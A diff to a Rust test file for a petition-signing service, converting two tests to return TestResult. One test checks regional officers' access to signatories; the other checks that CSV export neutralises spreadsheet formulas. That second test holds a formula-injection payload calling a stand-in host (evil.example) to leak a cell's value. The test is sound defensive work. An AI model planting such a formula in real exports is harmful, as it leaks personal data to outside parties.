@@ -8,7 +8,7 @@ use domain::petitions::signatories::{ExportFormat, export_signatories};
 use domain::petitions::signing::{self, NewSignature, SignatureForm};
 use domain::roles::Role;
 use http::StatusCode;
-use tests::{Client, TestApp, both_databases};
+use tests::{Client, TestApp, TestResult, both_databases};
 
 use super::{force_status, published};
 use crate::accounts::deliver;
@@ -47,7 +47,9 @@ async fn sign_as(app: &TestApp, id: domain::types::PetitionId, full_name: &str, 
         .unwrap_or_else(|e| panic!("{e}"));
 }
 
-async fn signatories_are_read_by_the_regions_officers_only_after_deposit(app: TestApp) {
+async fn signatories_are_read_by_the_regions_officers_only_after_deposit(
+    app: TestApp,
+) -> TestResult {
     let souss = app.region_id("souss-massa").await;
     let oriental = app.region_id("oriental").await;
     let id = published(&app, "souss-massa").await;
@@ -107,8 +109,7 @@ async fn signatories_are_read_by_the_regions_officers_only_after_deposit(app: Te
                 let list = officers
                     .unwrap_or_else(|e| panic!("{status:?}: {e}"))
                     .all()
-                    .await
-                    .unwrap_or_else(|e| panic!("{e}"));
+                    .await?;
                 assert_eq!(list.len(), 1, "{status:?}");
                 assert_eq!(list[0].cin, "AB123456");
             } else {
@@ -145,9 +146,10 @@ async fn signatories_are_read_by_the_regions_officers_only_after_deposit(app: Te
         .count();
     let deposited = ALL_STATUSES.iter().filter(|s| s.was_deposited()).count();
     assert_eq!(exports, deposited * 4);
+    Ok(())
 }
 
-async fn a_formula_in_a_name_stays_text_in_the_csv(app: TestApp) {
+async fn a_formula_in_a_name_stays_text_in_the_csv(app: TestApp) -> TestResult {
     let souss = app.region_id("souss-massa").await;
     let id = published(&app, "souss-massa").await;
     let formula = r#"=HYPERLINK("https://evil.example/?"&B2,"x")"#;
@@ -172,4 +174,5 @@ async fn a_formula_in_a_name_stays_text_in_the_csv(app: TestApp) {
         .map(|r| r.unwrap_or_else(|e| panic!("{e}"))[0].to_owned())
         .collect();
     assert_eq!(names, [format!("'{formula}"), "'@SUM(1+1)".to_owned()]);
+    Ok(())
 }
